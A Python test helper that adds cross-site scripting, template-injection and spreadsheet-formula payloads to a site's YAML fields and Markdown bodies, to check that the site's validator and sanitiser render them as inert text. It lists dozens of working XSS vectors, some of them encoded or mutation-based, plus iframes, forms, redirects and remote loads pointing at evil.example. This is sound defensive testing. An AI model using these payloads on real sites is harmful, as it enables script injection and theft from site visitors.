"""A content tree with hostile text in every field an editor writes: what a careless or hostile
editor could put in YAML, each payload tagged with a number so that a dialog names its origin.

Every payload is valid content (`check` accepts it): it must come out as text, never as markup,
in pages, titles, attributes, the feed, the search index, charts and CSV files.
"""
from __future__ import annotations

import re
from pathlib import Path

import yaml

# {n} is replaced by a number unique to each field, so that a dialog tells where it came from.
PAYLOADS = [
    "<img src=x onerror=alert({n})>",
    '"><svg/onload=alert({n})>',
    "'><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea></noscript><img src=x onerror=alert({n})>",
    "[bấm](javascript:alert({n}))",
    "<a href=\"javascript:alert({n})\">bấm</a>",
    "![ảnh](http://evil.example/{n}.png)",
    "{{{{ config }}}} {{% raw %}} ]]> ${{alert({n})}}",
    "=HYPERLINK(\"http://evil.example/{n}\",\"bấm\")",
    "`<img src=x onerror=alert({n})>` *đậm* _nghiêng_",
    "{{: onclick=\"alert({n})\" }}",
]

# The text fields of each kind (ids, dates, choices and references stay as they are).
TEXT_KEYS = {"title", "organization", "description", "name", "type", "party_org", "decision",
             "confirmed_by", "summary", "findings", "difficulties", "text", "to", "response",
             "branch", "practices", "lessons", "recognition", "label", "unit", "publisher",
             "authors", "phone", "code"}


# A visit's `practices` are story ids, a story's are texts: ids are left alone.
_SLUG = re.compile(r"^[a-z0-9]+(-[a-z0-9]+)*$")


class _Counter:
    def __init__(self):
        self.n = 0

    def next(self) -> str:
        self.n += 1
        return PAYLOADS[self.n % len(PAYLOADS)].format(n=self.n)


def _poison(value, counter: _Counter, key: str | None = None):
    """The same structure with a payload appended to every text field."""
    if isinstance(value, dict):
        return {k: _poison(v, counter, k) for k, v in value.items()}
    if isinstance(value, list):
        if key in TEXT_KEYS:  # a list of texts (findings, practices, authors)
            return [f"{item} {counter.next()}" if isinstance(item, str)
                    and not _SLUG.match(item) else
                    _poison(item, counter) for item in value]
        return [_poison(item, counter) for item in value]
    if isinstance(value, str) and key in TEXT_KEYS:
        return f"{value} {counter.next()}"
    return value


def _dump(data) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def _load(text: str):
    # BaseLoader: every scalar stays a string, so dates and numbers are written back as they were.
    return yaml.load(text, Loader=yaml.BaseLoader)


def poison_tree(content: Path) -> int:
    """Add payloads to every text field under `content`; returns how many were added."""
    counter = _Counter()
    for path in sorted(content.rglob("*")):
        if path.suffix in (".yml", ".yaml"):
            data = _poison(_load(path.read_text(encoding="utf-8")), counter)
            path.write_text(_dump(data), encoding="utf-8")
        elif path.suffix == ".md":
            text = path.read_text(encoding="utf-8")
            if text.startswith("---\n"):
                front, body = text[4:].split("\n---\n", 1)
                data = _poison(_load(front), counter)
                text = "---\n" + _dump(data) + "---\n" + body
            path.write_text(text, encoding="utf-8")
    return counter.n


# Script-capable Markdown and HTML for bodies: `check` refuses each of them, and when the checks
# are bypassed the sanitiser must still publish none of them live.
BODY_PAYLOADS = [
    "<script>alert({n})</script>",
    "<svg/onload=alert({n})>",
    '<a href="&#106;avascript:alert({n})">bấm</a>',
    '<a href="&#x6A;avascript:alert({n})">bấm</a>',
    '<a href="JaVaScRiPt:alert({n})">bấm</a>',
    "[bấm](javascript&colon;alert({n}))",
    "[bấm](java\tscript:alert({n}))",
    "[bấm](javascript:\nalert({n}))",
    "[bấm][x{n}]\n\n[x{n}]: javascript:alert({n})",
    "<javascript:alert({n})>",
    'Đoạn văn.\n{{: onclick="alert({n})" }}',
    "<img\nsrc=x\nonerror=alert({n})>",
    '<div title="a>" onclick=alert({n})>x</div>',
    '<svg><animate attributeName="href" values="javascript:alert({n})"/></svg>',
    "\\`<img src=x onerror=alert({n})>`",
    " ```\n<script>alert({n})</script>\n ```",
    "```{{.html onclick=alert({n})}}\n<script>alert({n})</script>\n```",
    '![ảnh](x.png "a" onerror="alert({n})")',
    "![ảnh](http://evil.example/{n}.png)",
    '<img src="//evil.example/{n}.png">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('
    'http://evil.example/{n}.png)">che trang</div>',
    "<!-- ghi chú nội bộ {n} -->",
    '<iframe src="http://evil.example/{n}"></iframe>',
    '<object data="http://evil.example/{n}.swf"></object>',
    '<form action="http://evil.example/{n}"><input name=q><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/{n}">',
    '<base href="http://evil.example/{n}/">',
    '<details open ontoggle=alert({n})>x</details>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm {n}</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>"></noscript>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+"/></svg>',
    '<a href="http://evil.example/{n}" target="_blank">liên kết ngoài</a>',
    "<style>body{{background:url(http://evil.example/{n}.png)}}</style>",
    '<link rel="stylesheet" href="http://evil.example/{n}.css">',
    # Last: its unclosed <style> makes the rest of the body style text, which is dropped.
    '<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>',
]


def poison_bodies(content: Path) -> int:
    """Append every body payload to every Markdown body under `content` (stories, bulletins,
    pages); returns how many were added."""
    n = 0
    for path in sorted(content.rglob("*.md")):
        parts = []
        for payload in BODY_PAYLOADS:
            n += 1
            parts.append(payload.format(n=n))
        text = path.read_text(encoding="utf-8").rstrip("\n")
        path.write_text(text + "\n\n" + "\n\n".join(parts) + "\n", encoding="utf-8")
    return n
